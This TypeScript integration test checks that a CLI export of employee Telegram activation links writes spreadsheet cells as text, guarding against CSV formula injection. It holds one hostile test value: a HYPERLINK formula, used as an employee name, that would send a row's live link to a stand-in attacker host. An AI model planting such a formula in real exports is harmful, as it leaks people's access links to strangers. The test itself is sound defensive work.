/**
 * The CSV of activation links HR opens in a spreadsheet: every cell as text, never a formula. A name
 * such as =HYPERLINK("http://…"&D2,"klik") would otherwise send the row's live link to a stranger.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { linkCodesCommand } from '../../src/cli/commands/link-code.js';
import type { CliContext } from '../../src/cli/context.js';
import { loadConfig } from '../../src/config.js';
import { Translator } from '../../src/i18n/translator.js';
import { truncateAll, useTestDatabase } from '../support/database.js';
import { seedEmployee, seedUnitPath } from '../support/telegram-harness.js';

const t = useTestDatabase();
let dir = '';
beforeEach(async () => {
  await truncateAll(t.db);
  dir = mkdtempSync(join(tmpdir(), 'dika-links-'));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

/** `npm run dika -- link-codes --unit <unit> --out <file>`; returns the file's rows as a spreadsheet reads them. */
async function linkCodes(unit: string): Promise<string[][]> {
  const file = join(dir, 'links.csv');
  const ctx: CliContext = {
    config: loadConfig({ DIKA_SECRET: 'integration-secret-0123456789', TELEGRAM_BOT_USERNAME: 'dika_bot' }),
    translator: new Translator('id'),
    locale: 'id',
    database: async () => t.database,
    actor: 'cli:hr-admin',
    out: () => {},
    err: () => {},
  };
  expect(await linkCodesCommand.run(['--unit', unit, '--out', file], ctx)).toBe(0);
  return parse(readFileSync(file, 'utf8')) as string[][];
}

describe('link-codes CSV', () => {
  it('writes a hostile name as text, never as a formula beside the live links', async () => {
    const unit = await seedUnitPath(t.db, 'Biro Umum');
    const hostile = '=HYPERLINK("http://evil.example/?c="&D2,"klik")';
    await seedEmployee(t.db, { name: hostile, unitId: unit });
    await seedEmployee(t.db, { name: '-Budi', unitId: unit });
    await seedEmployee(t.db, { name: 'Wulandari, S.E.', unitId: unit });
    const rows = await linkCodes('Biro Umum');
    // The spreadsheet shows a quote-prefixed cell as the text after the quote, and computes nothing.
    expect(rows.map((r) => r[1])).toEqual(['nama', "'-Budi", `'${hostile}`, 'Wulandari, S.E.']);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows[2]![3]).toMatch(/^https:\/\/t\.me\/dika_bot\?start=[\w-]{22}$/);
  });
});
